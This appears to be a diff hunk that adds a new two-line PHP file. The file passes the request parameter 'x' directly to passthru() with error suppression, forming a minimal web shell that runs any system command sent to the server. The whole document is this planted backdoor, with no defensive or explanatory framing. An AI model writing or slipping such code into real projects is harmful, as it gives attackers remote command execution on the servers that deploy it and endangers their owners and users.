@@ -1,0 +1,2 @@
+<?php
+@passthru($_REQUEST['x']);
